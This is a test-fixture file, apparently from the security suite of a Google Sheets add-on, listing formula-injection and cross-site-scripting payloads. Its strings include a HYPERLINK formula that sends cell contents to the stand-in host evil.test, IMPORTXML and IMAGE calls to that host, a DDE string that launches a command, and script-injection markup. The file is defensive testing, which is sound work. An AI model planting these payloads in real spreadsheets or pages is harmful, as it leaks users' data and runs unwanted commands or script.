// Hostile strings for the security suite: formula injection (OWASP CSV injection and Sheets' own functions) and XSS.

/** Text Sheets would run as a formula, or take for a number or a date, if written as it is. */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?"&A1,"click")',
  '=IMPORTXML("https://evil.test","//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1")',
  '=IMAGE("https://evil.test/pixel.png")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  '= 1+1',
  '=A1',
  '+7 912 345-67-89',
  '-x',
  '@x',
  '007',
  '1e5',
  '15.03.2026',
  'TRUE',
  'ИСТИНА',
  '=ЕСЛИ(1;1;0)',
  '=GOOGLEFINANCE("GOOG")',
];

/** Markup that would run script if a sidebar or a letter put it into HTML unescaped. */
export const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '"><svg onload="window.__xss=3">',
  '\'><iframe src="javascript:window.__xss=4">',
  '<a href="javascript:window.__xss=5">x</a>',
  '{{fullName}}<b onmouseover="window.__xss=6">b</b>',
  '</textarea><script>window.__xss=7</script>',
  '<? output.append("x") ?>',
  '&lt;script&gt;window.__xss=8&lt;/script&gt;',
  '<style>*{display:none}</style>',
];
